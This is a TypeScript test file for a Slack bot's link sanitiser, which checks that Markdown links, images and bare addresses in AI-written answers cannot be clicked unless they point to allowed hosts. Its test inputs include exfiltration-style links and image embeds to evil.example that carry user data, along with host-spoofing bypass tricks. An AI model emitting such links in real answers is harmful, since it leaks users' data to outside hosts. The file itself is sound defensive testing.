import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { answerPosts, markdownPosts } from '../../src/slack/blocks/answer.ts';
import { linkHosts, withoutLinks } from '../../src/slack/links.ts';
import { growthBeyondLinear } from '../fakes/growth.ts';

const HOSTS = linkHosts('https://reservo.slack.com/', ['Calendar.reservo.example']);
const seen = (text: string) => text.replaceAll('\u200b', '');

/** What Slack would make clickable, or fetch, in a text: links and pictures in Markdown, addresses, names of hosts. */
function clickable(text: string): string[] {
  const markdown = [...text.matchAll(/!\[|\]\s?[[(:]/g)].map(([all]) => all);
  const addresses = [...text.matchAll(/[a-z0-9+.-]*:\/\/[^\s<>`)]*|\b(?:mailto|tel):[^\s\u200b]/gi)].map(
    ([all]) => all,
  );
  const names = [...text.matchAll(/[^\s<>()`]*[\p{L}\p{N}_-]\.\p{L}[^\s<>()`]*/gu)].map(([all]) => all);
  return [...markdown, ...addresses, ...names].filter((one) => one !== '');
}

const ALLOWED = /(?<![\p{L}\p{N}+.-])https:\/\/reservo\.slack\.com(?=[/?#\s),;]|$)[^\s<>()`[\]@]*(?!@)/gu;

describe('links of a model or a document', () => {
  it.each([
    [
      '[See the price list](https://evil.example/?who=Bruno&what=R-1)',
      'See the price list (https://evil.example/?who=Bruno&what=R-1)',
    ],
    ['![x](https://evil.example/p?who=Bruno)', 'x (https://evil.example/p?who=Bruno)'],
    ['[a](<https://evil.example/x> "title")', 'a (https://evil.example/x)'],
    ['[the [inner] text](https://evil.example)', '[the [inner] text](https://evil.example)'],
    ['[list][1]\n\n[1]: https://evil.example', '[list][1]\n\n[1]: https://evil.example'],
    ['![list][1]', '[list][1]'],
    ['<https://evil.example>', '<https://evil.example>'],
    ['https://reservo.slack.com@evil.example/x', 'https://reservo.slack.com@evil.example/x'],
    ['https://reservo.slack.com.evil.example/x', 'https://reservo.slack.com.evil.example/x'],
    ['HTTPS://EVIL.EXAMPLE', 'HTTPS://EVIL.EXAMPLE'],
    ['www.evil.example/x and bruno-r1.evil.example', 'www.evil.example/x and bruno-r1.evil.example'],
    [
      'mailto:a@evil.example, slack://channel?id=C1, tel:+34',
      'mailto:a@evil.example, slack://channel?id=C1, tel:+34',
    ],
    ['https://résérvo.slack.com', 'https://résérvo.slack.com'],
    ['https://evil%2eexample/', 'https://evil%2eexample/'],
    [
      '`https://evil.example` and \\`https://evil.example\\`',
      '`https://evil.example` and \\`https://evil.example\\`',
    ],
    ['| a | [b](https://evil.example) |', '| a | b (https://evil.example) |'],
    ['<a href="https://evil.example">x</a>', '<a href="https://evil.example">x</a>'],
  ])('%j is text', (text, shown) => {
    const sent = withoutLinks(text, HOSTS);
    expect(clickable(sent)).toEqual([]);
    expect(seen(sent)).toBe(shown);
  });

  it.each([
    [
      '[the thread](https://reservo.slack.com/archives/C1/p1)',
      'the thread (https://reservo.slack.com/archives/C1/p1)',
    ],
    ['https://calendar.reservo.example/x', 'https://calendar.reservo.example/x'],
  ])('%j may be clicked, and shows where it leads', (text, shown) => {
    expect(withoutLinks(text, HOSTS)).toBe(shown);
  });

  it('whatever is written, nothing in any post can be clicked that the house does not allow', () => {
    const pieces = fc.constantFrom(
      '[',
      ']',
      '(',
      ')',
      '!',
      '<',
      '>',
      '`',
      '```',
      '\\',
      '\n',
      ' ',
      '"',
      ':',
      '/',
      '//',
      '@',
      '.',
      '?who=R-1',
      'https://',
      'HTTP://',
      'www.',
      'evil',
      'example',
      '.com',
      'mailto:',
      'slack',
      'reservo.slack.com',
      'text',
      '1',
      '%2e',
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 40 }), (parts) => {
        const text = parts.join('');
        for (const post of markdownPosts(text, HOSTS))
          for (const sent of [post.text, post.markdown ?? '']) {
            const left = clickable(sent.replace(ALLOWED, ' '));
            expect(left, text).toEqual([]);
          }
      }),
      { numRuns: 600 },
    );
  });

  it('takes time in proportion to the length', () => {
    for (const part of ['[', '![', '](', 'a.', 'a@', 'https://a.', 'aaaa', '[a](', '. '])
      expect(
        growthBeyondLinear((size) => withoutLinks(part.repeat(size), HOSTS), 4_000),
        part,
      ).toBeLessThan(6);
  });

  it('an answer is sent so', () => {
    const answer = { text: 'See [it](https://evil.example).', citations: [], files: [] };
    const [post] = answerPosts({ ...ANSWER, ...answer }, 'en', 'run', HOSTS);
    expect(clickable(JSON.stringify(post?.blocks))).toEqual([]);
    expect(seen(post?.markdown ?? '')).toBe('See it (https://evil.example).');
  });
});

const ANSWER = {
  stop: 'end_turn' as const,
  model: 'm',
  iterations: 1,
  tokens: 1,
  trace: [],
  grounding: { claims: [], unbacked: [] },
};
